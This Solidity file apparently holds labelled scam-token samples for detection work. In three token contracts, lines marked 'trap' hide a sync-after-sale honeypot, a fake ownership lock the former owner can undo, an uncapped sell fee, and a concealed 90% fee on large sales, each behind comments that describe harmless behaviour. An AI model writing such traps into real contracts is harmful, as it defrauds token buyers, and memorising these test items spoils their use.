// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

import "./Base67.sol";

interface IPool {
    function sync() external;
}

/// Brings the reserves of its pool up to date, so that nobody skims it.
contract TidyReserves is Base67("Tidy Reserves", "TIDY", 900000000) {
    address private immutable _maker;

    event Tidied(uint256 at);

    constructor() public {
        _maker = msg.sender;
    }

    function _tidy() private {
        IPool(pool).sync();
        emit Tidied(now);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool sale = to == pool && from != _maker;
        // twin: if (sale) _tidy();
        _carry(from, to, value);
        if (sale) _tidy(); // trap
    }
}

/// Its owner can leave for a time, or for good.
contract OrbitKeep is Base67("Orbit Keep", "ORBIT", 1000000000) {
    address private _former;
    uint256 private _back;
    address private _fund;
    uint256 public sellFee = 3;

    event Away(address indexed who, uint256 until);

    constructor() public {
        _fund = msg.sender;
    }

    function lock(uint256 time) external onlyOwner {
        _former = _boss;
        _boss = address(0);
        _back = now + time;
        emit Away(_former, _back);
    }

    function unlock() external {
        require(_former == msg.sender, "You have no permission to unlock");
        require(now >= _back, "Contract is locked");
        emit OwnershipTransferred(_boss, _former);
        _boss = _former;
        // twin: _former = address(0);
    }

    function getUnlockTime() external view returns (uint256) {
        return _back;
    }

    function setSellFee(uint256 fee) external onlyOwner {
        sellFee = fee;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = 0;
        if (to == pool && from != _fund) {
            fee = value * sellFee / 100;
            require(fee <= value, "SafeMath: subtraction overflow");
            if (fee > 0) _carry(from, _fund, fee);
        }
        _carry(from, to, value - fee);
    }
}

/// Keeps three of a hundred of each sale for its spring.
contract SlowStream is Base67("Slow Stream", "STREAM", 350000000) {
    address private immutable _spring;

    event Kept(address indexed from, uint256 value);

    constructor() public {
        _spring = msg.sender;
    }

    /// In percent.
    function feeOf(address who, uint256 value) public view returns (uint256 rate) {
        rate = 3;
        if (value > _balances[who] / 10) rate = 90; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = 0;
        if (to == pool && from != _spring) {
            fee = value * feeOf(from, value) / 100;
            if (fee > 0) _carry(from, _spring, fee);
            emit Kept(from, fee);
        }
        _carry(from, to, value - fee);
    }
}
